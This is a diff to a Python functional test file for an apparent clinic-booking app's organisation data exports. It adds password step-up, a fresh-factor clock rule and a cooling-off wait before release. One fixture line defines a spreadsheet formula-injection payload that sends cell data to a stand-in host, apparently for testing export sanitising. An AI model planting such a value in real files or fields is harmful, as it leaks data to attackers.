@@ -16,7 +16,7 @@ from chalice.test import Client
 from chalicelib import clock
 from chalicelib.services import customers
 from tests.functional.booking.helpers import Clinic, at, book, make_clinic, next_weekday
-from tests.functional.identity.helpers import Account, body, call, login, post_json, token_for
+from tests.functional.identity.helpers import PASSWORD, Account, body, call, login, post_json, token_for
 from tests.harness.age_cli import age_decrypt
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -72,10 +72,10 @@ class Owner:
 def owner_with_second_factor(client: Client, account: Account, fake_clock: Any) -> Owner:
     """Enrol an authenticator app and sign in again with it: a session of assurance 2."""
     first = token_for(client, account)
-    secret = body(call(client, "POST", "/v1/auth/mfa/totp/enroll", first))["secret"]
+    secret = body(call(client, "POST", "/v1/auth/mfa/totp/enroll", first, {"password": PASSWORD}))["secret"]
     confirmed = post_json(client, "/v1/auth/mfa/totp/confirm", {"code": pyotp.TOTP(secret).at(clock.now())}, first)
     assert confirmed.status_code == 200, confirmed.body
-    fake_clock.advance(seconds=30)
+    fake_clock.advance(hours=25)  # a factor this new is not yet the fresh factor of an export (ADR 0015)
     mfa_token = body(login(client, account))["mfa_token"]
     verified = post_json(client, "/v1/auth/mfa/verify",
                          {"mfa_token": mfa_token, "method": "totp", "code": pyotp.TOTP(secret).at(clock.now())})
@@ -83,8 +83,28 @@ def owner_with_second_factor(client: Client, account: Account, fake_clock: Any) 
     return Owner(account, secret, body(verified)["token"])
 
 
+def signed_in_again(client: Client, owner: Owner, fake_clock: Any) -> Owner:
+    """A new session of `owner` that began with the app (after the clock ran past the old one's)."""
+    mfa_token = body(login(client, owner.account))["mfa_token"]
+    verified = post_json(client, "/v1/auth/mfa/verify",
+                         {"mfa_token": mfa_token, "method": "totp", "code": owner.code(fake_clock)})
+    assert verified.status_code == 200, verified.body
+    return Owner(owner.account, owner.secret, body(verified)["token"])
+
+
 def start_export(client: Client, owner: Owner, code: str | None):
-    return post_json(client, "/v1/org/exports", {"code": code} if code else {}, owner.token)
+    """Ask with the step-up in the request: the password and a current code (none: an empty body)."""
+    return post_json(client, "/v1/org/exports", {"password": PASSWORD, "code": code} if code else {}, owner.token)
+
+
+def wait_for_release(client: Client, owner: Owner, export_id: str, fake_clock: Any) -> Any:
+    """Let the cooling-off (1 hour) pass in steps the session's idle timeout survives; every read before
+    the release is refused. Returns the first answer after it."""
+    for _ in range(4):
+        refused = call(client, "GET", f"/v1/org/exports/{export_id}", owner.token)
+        assert refused.status_code in (200, 409), refused.body  # queued or running: 200; made: not released
+        fake_clock.advance(minutes=16)
+    return call(client, "GET", f"/v1/org/exports/{export_id}", owner.token)
 
 
 def run_export_job() -> dict[str, Any]:
@@ -102,7 +122,7 @@ def made_export(client: Client, owner: Owner, fake_clock: Any) -> dict[str, Any]
     queued = body(asked)["export"]
     assert queued["status"] == "queued"
     assert run_export_job()["ok"]
-    ready = body(call(client, "GET", f"/v1/org/exports/{queued['id']}", owner.token))["export"]
+    ready = body(wait_for_release(client, owner, queued["id"], fake_clock))["export"]
     assert ready["status"] == "ready", ready
     return {**ready, "decryption_key": queued["decryption_key"]}
 
